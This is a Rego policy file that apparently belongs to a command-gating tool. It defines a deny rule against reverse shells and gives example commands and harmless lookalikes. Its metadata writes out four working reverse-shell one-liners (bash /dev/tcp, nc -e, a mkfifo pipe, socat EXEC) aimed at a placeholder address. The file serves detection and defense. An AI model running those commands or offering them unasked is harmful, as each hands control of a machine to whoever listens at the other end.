# METADATA
# title: Shell on a network connection
# description: >-
#   A shell or interpreter with a socket as its input or output, so that the other end gives the commands.
# custom:
#   severity: critical
#   remediation: Do not connect a shell to the network. Use the gate's own tools to run commands.
#   examples:
#     - bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
#     - nc -e /bin/sh 192.0.2.1 4444
#     - rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4444 > f
#     - socat TCP:192.0.2.1:4444 EXEC:/bin/sh
#   lookalikes:
#     - nc -z localhost 8080
#     - timeout 1 bash -c '</dev/tcp/localhost/8080'
#     - curl -s localhost:8080/health
package sallyport.rules.shell.reverse_shell

import data.sallyport.lib

_shells := {"bash", "sh"}

deny contains {"command": i} if some i in lib.with_flag.socket_shell

# A shell without a program of its own between a connection and its answer.
deny contains {"command": i} if {
	some j in lib.with_effect.network
	some i in input.commands[j].inputs
	c := input.commands[i]
	c.code.language in _shells
	c.code.from in {"session", "stdin"}
	not c.code.resolved
}
